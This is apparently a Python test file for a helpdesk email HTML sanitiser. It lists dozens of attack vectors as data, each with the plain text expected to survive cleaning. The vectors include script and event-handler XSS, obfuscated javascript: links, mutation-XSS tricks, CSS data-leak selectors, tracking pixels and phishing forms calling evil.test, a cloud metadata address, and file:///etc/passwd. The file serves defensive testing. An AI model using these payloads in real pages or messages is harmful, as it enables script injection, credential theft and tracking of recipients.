"""HTML that would like to run, to fetch, to send, to cover (TRUST MI-08, MI-09). What is asserted of all: test_parsing_html.py."""

from __future__ import annotations

from helpdesk.mailbox.parsing import Warning

from .case import Case, html_mail

SEES = "<p>看</p>"

# Each: its name, its HTML, and the words a person is left with.
VECTORS: tuple[tuple[str, str, str], ...] = (
    ("script", "<script>alert(1)</script>" + SEES, "看"),
    ("script from elsewhere", '<script src="https://evil.test/x.js"></script>' + SEES, "看"),
    ("script never closed", SEES + "<script>alert(1)", "看"),
    ("script in capitals, with signs between", "<ScRiPt/x>alert(1)</sCrIpT\t\n x>" + SEES, "看"),
    ("script in script", "<scr<script>ipt>alert(1)</scr</script>ipt>" + SEES, "ipt>alert(1)ipt>\n看"),
    ("script after NUL", "<scr\x00ipt>alert(1)</script>" + SEES, "看"),
    ("script in a comment that ends early", "<!--><script>alert(1)</script>-->" + SEES, "-->\n看"),
    ("script in CDATA", "<![CDATA[<script>alert(1)</script>]]>" + SEES, "alert(1)]]>\n看"),
    (
        "script in utf-7 signs",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + SEES,
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n看",
    ),
    ("a conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->" + SEES, "看"),
    ("handler on a picture", '<img src="x" onerror="alert(1)">' + SEES, "看"),
    ("handler after a slash", "<img/src=x/onerror=alert(1)//>" + SEES, "看"),
    ("handler with a sign in between", '<img src=x onerror\x0b="alert(1)">' + SEES, "看"),
    ("handler by quotes that do not fit", '<img alt="`x\' onerror=alert(1) `">' + SEES, "看"),
    ("handler on body", "<body onload=alert(1)>" + SEES, "看"),
    ("handler on details", "<details open ontoggle=alert(1)>x</details>" + SEES, "x\n看"),
    ("handler on media", "<video onloadstart=alert(1)><source></video><audio src=x onerror=alert(1)></audio>" + SEES, "看"),
    ("handler on focus", "<input autofocus onfocus=alert(1)><p tabindex=1 onfocus=alert(1)>看</p>", "看"),
    ("handler on an animation", '<p style="animation:x" onanimationstart=alert(1)>看</p>', "看"),
    ("svg", "<svg onload=alert(1)><script>alert(1)</script></svg>" + SEES, "看"),
    ("svg link", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>' + SEES, "看"),
    ("svg use", '<svg><use href="data:image/svg+xml,<svg/>#x"></use></svg>' + SEES, "看"),
    ("svg animate", "<svg><animate onbegin=alert(1) attributeName=x></animate></svg>" + SEES, "看"),
    ("math", '<math href="javascript:alert(1)">x</math>' + SEES, "看"),
    ("style import", '<style>@import "https://evil.test/x.css";</style>' + SEES, "看"),
    ("style that tells letters", "<style>input[value^=a]{background:url(https://evil.test/a)}</style>" + SEES, "看"),
    ("style with an address", '<p style="background:url(https://evil.test/x)">看</p>', "看"),
    ("style that covers all", '<p style="position:fixed;top:0;left:0;width:100%;height:100%">看</p>', "看"),
    ("style expression", '<p style="width:expression(alert(1))">看</p>', "看"),
    ("style from elsewhere", '<link rel="stylesheet" href="https://evil.test/x.css">' + SEES, "看"),
    ("form", '<form action="https://evil.test"><input name="password"><button>登录</button></form>' + SEES, "登录\n看"),
    ("form button elsewhere", '<button formaction="javascript:alert(1)">x</button>' + SEES, "x\n看"),
    ("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.test">' + SEES, "看"),
    ("base", '<base href="https://evil.test/"><a href="x">看</a>', "看"),
    ("frame", '<iframe src="https://evil.test"></iframe>' + SEES, "看"),
    ("frame with its own page", '<iframe srcdoc="<script>alert(1)</script>"></iframe>' + SEES, "看"),
    ("object", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">' + SEES, "看"),
    ("applet", '<applet code="x.class"></applet>' + SEES, "看"),
    ("portal and its kind", '<portal src="https://evil.test"></portal><fencedframe></fencedframe>' + SEES, "看"),
    ("link javascript", '<a href="javascript:alert(1)">看</a>', "看"),
    ("link javascript in capitals", '<a href="JaVaScRiPt:alert(1)">看</a>', "看"),
    ("link javascript with a tab", '<a href="java\tscript:alert(1)">看</a>', "看"),
    ("link javascript with a newline written as a sign", '<a href="java&#10;script:alert(1)">看</a>', "看"),
    (
        "link javascript in numbers",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">看</a>',
        "看",
    ),
    ("link javascript in numbers without ends", '<a href="&#0000106&#0000097vascript:alert(1)">看</a>', "看"),
    ("link javascript behind signs", '<a href="&#1; javascript:alert(1)">看</a>', "看"),
    ("link javascript by name of a sign", '<a href="javascript&colon;alert(1)">看</a>', "看"),
    ("link vbscript", '<a href="vbscript:msgbox(1)">看</a>', "看"),
    ("link data", '<a href="data:text/html;base64,PHNjcmlwdD4=">看</a>', "看"),
    ("link file", '<a href="file:///etc/passwd">看</a>', "看"),
    ("link cid", '<a href="cid:x@client.test">看</a>', "看"),
    ("link to nowhere near", '<a href="//evil.test/x">看</a>', "看"),
    ("link with a target and an opener", '<a href="https://shop.test/x" target="_top" rel="opener">看</a>', "看"),
    ("link that pings", '<a href="https://shop.test/x" ping="https://evil.test">看</a>', "看"),
    ("link that downloads", '<a href="https://shop.test/x" download="x.exe">看</a>', "看"),
    ("picture from elsewhere", '<img src="https://evil.test/pixel.gif" width="1" height="1">' + SEES, "看"),
    ("picture without a scheme", '<img src="//evil.test/pixel.gif">' + SEES, "看"),
    ("picture of the inner net", '<img src="http://169.254.169.254/latest/meta-data/">' + SEES, "看"),
    ("picture of a share (UNC)", '<img src="\\\\evil.test\\share\\x.png"><img src="file://evil.test/x.png">' + SEES, "看"),
    (
        "picture by set",
        '<img srcset="https://evil.test/x 1x"><picture><source srcset="https://evil.test/x"></picture>' + SEES,
        "看",
    ),
    (
        "picture by lowsrc and its kind",
        '<img lowsrc="https://evil.test/x" dynsrc="https://evil.test/y" longdesc="https://evil.test/z">' + SEES,
        "看",
    ),
    ("picture data svg", '<img src="data:image/svg+xml;base64,PHN2Zz4=">' + SEES, "看"),
    (
        "background from elsewhere",
        '<table background="https://evil.test/x"><tr><td background="https://evil.test/y">看</td></tr></table>',
        "看",
    ),
    ("poster from elsewhere", '<video poster="https://evil.test/x"></video>' + SEES, "看"),
    ("names that cover the page's own", '<a id="location" name="cookie" class="admin">看</a>', "看"),
    ("mutation: noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' + SEES, '">\n看'),
    (
        "mutation: style in math",
        '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">' + SEES,
        "",
    ),
    (
        "mutation: form in form",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>" + SEES,
        "",
    ),
    ("mutation: svg in p", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>' + SEES, '">\n看'),
    ("mutation: textarea", "<textarea></textarea><img src=x onerror=alert(1)></textarea>" + SEES, "看"),
    ("mutation: xmp", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' + SEES, '">\n看'),
    ("mutation: template", "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>" + SEES, "看"),
    ("mutation: select", "<select><option><style></option></select><img src=x onerror=alert(1)></style></select>" + SEES, "看"),
    (
        "mutation: annotation",
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>' + SEES,
        "看",
    ),
    ("mutation: unquoted attributes of nothing", '<p ="></p><img src=x onerror=alert(1)>">看</p>', '">看'),
    (
        "a page as Word writes it",
        '<html xmlns:o="urn:x"><head><title>t</title><xml><o:p>hidden</o:p></xml></head><body><o:p>看</o:p></body></html>',
        "hidden看",
    ),
    ("a table is rows", "<table><tr><td>一</td><td>二</td></tr><tr><td>三</td></tr></table>", "一二\n\n三"),
)


def _deceives(name: str, html: str, text: str) -> Case:
    return Case(name=f"link: {name}", raw=html_mail(html), text=text, warnings=(Warning.LINK_TEXT,))


LINKS = [
    _deceives(
        "says another house than it leads to",
        '<a href="https://evil.test/login">https://bank.test/login</a>',
        "https://bank.test/login",
    ),
    _deceives("says a name without a scheme", '<a href="http://evil.test">www.bank.test</a>', "www.bank.test"),
    _deceives(
        "hides the house behind a sign-in", '<a href="https://bank.test@evil.test/">https://bank.test/</a>', "https://bank.test/"
    ),
    _deceives("says it in pieces", '<a href="https://evil.test/">ba<b>nk.te</b>st/login</a>', "bank.test/login"),
    _deceives("leads to a number", '<a href="http://203.0.113.7/">bank.test</a>', "bank.test"),
    Case(
        name="link: says where it leads",
        raw=html_mail('<a href="https://www.shop.test/a">shop.test</a>'),
        text="shop.test",
        check=lambda one: 'href="https://www.shop.test/a"' in one.html and "noopener" in one.html,
    ),
    Case(name="link: says words", raw=html_mail('<a href="https://shop.test/a">订单</a>'), text="订单"),
    Case(
        name="link: an address to write to",
        raw=html_mail('<a href="mailto:li@other.test">li@other.test</a>'),
        text="li@other.test",
        check=lambda one: "mailto:li@other.test" in one.html,
    ),
]

CASES = [*(Case(name=f"html: {name}", raw=html_mail(html), text=text) for name, html, text in VECTORS), *LINKS]
